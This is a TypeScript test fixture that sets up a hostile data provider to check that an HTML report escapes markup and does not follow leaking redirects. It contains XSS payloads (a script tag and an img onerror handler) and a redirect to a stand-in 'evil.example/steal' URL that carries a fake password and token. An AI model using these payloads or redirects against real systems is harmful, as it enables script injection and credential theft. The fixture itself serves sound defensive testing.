// A provider that attacks the reports that show its answers: markup, quotes and control characters
// in a field name and in values, and a cross-origin redirect whose Location carries credentials.
// The HTML report must show all of it as text (test/verify/html-report.test.ts, test/browser).
import { APP_A, galleryDataset } from "./dataset.js";
import { startFixtureProvider, type RunningProvider } from "./fixture-provider.js";

/** Markup, both quotes, an ampersand and two control characters (SOH, BEL). */
export const HOSTILE = `<script>alert("pwned")</script><img src=x onerror=alert(1)>'&\u0001\u0007`;
export const LEAKED_PASSWORD = "hunter2";
export const LEAKED_TOKEN = "s3cr3t-t0k3n";
export const HOSTILE_APP_ID = APP_A;

export function startHostileProvider(): Promise<RunningProvider> {
  return startFixtureProvider({
    data: galleryDataset(),
    transform: (request, reply) => {
      if (request.operationId === "getHumanEvaluation" && reply.status === 200)
        return {
          status: 302,
          contentType: "",
          body: "",
          raw: "",
          headers: { location: `http://admin:${LEAKED_PASSWORD}@evil.example/steal?token=${LEAKED_TOKEN}&x=1` },
        };
      if (request.operationId !== "listEvaluations" || reply.status !== 200) return reply;
      const [first, ...rest] = reply.body as Record<string, unknown>[];
      if (first === undefined) return reply;
      return { ...reply, body: [{ ...first, status: HOSTILE, created_at: HOSTILE, [HOSTILE]: HOSTILE }, ...rest] };
    },
  });
}
